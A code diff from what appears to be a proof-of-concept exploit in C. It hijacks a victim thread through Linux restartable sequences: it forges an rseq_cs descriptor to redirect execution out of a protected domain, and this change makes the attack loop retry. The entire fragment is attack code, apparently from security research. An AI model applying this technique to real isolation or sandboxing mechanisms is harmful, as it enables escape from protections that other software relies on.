@@ -11,7 +11,6 @@
 #include <signal.h>
 #include <string.h>
 #include <sys/rseq.h>
-#include <time.h>
 #include <unistd.h>
 
 extern const char rseq_landing[];
@@ -24,26 +23,18 @@ static void *sign_for_ever(void *arg)
     victim_sign_for_ever();
 }
 
-/* The gate's way in and out has every signal blocked, and a fault that is
- * blocked ends the process. */
-static void let_faults_in(void)
-{
-    sigset_t faults;
-
-    sigemptyset(&faults);
-    sigaddset(&faults, SIGSEGV);
-    sigaddset(&faults, SIGBUS);
-    pthread_sigmask(SIG_UNBLOCK, &faults, NULL);
-}
-
 /* The rights are those of the place that it was taken from. If that was in the
- * module and outside of the domain, it goes on signing. */
+ * module and outside of the domain, it may have had signals blocked, or a lock:
+ * the next try is by a fresh program. */
 void rseq_landed(void)
 {
-    let_faults_in();
+    sigset_t none;
+
+    sigemptyset(&none);
+    pthread_sigmask(SIG_SETMASK, &none, NULL);
     /* There is no way back from it but a fault. */
     if (!SURVIVES(victim_read_target())) {
-        sign_for_ever(NULL);
+        attack_again();
     }
 }
 
@@ -69,7 +60,6 @@ static void send_elsewhere(void)
     struct rseq *area;
     pthread_t thread;
     cpu_set_t one;
-    time_t end;
 
     victim_ready();
     search_maps(forge, NULL);
@@ -83,8 +73,7 @@ static void send_elsewhere(void)
         trouble("a thread");
     }
     area = (struct rseq *)((char *)thread + __rseq_offset);
-    end = time(NULL) + 3;
-    while (time(NULL) < end) {
+    for (int i = 0; i < 2000; i++) {
         *(volatile __u64 *)&area->rseq_cs = (uintptr_t)&forged;
         usleep(1000);
     }
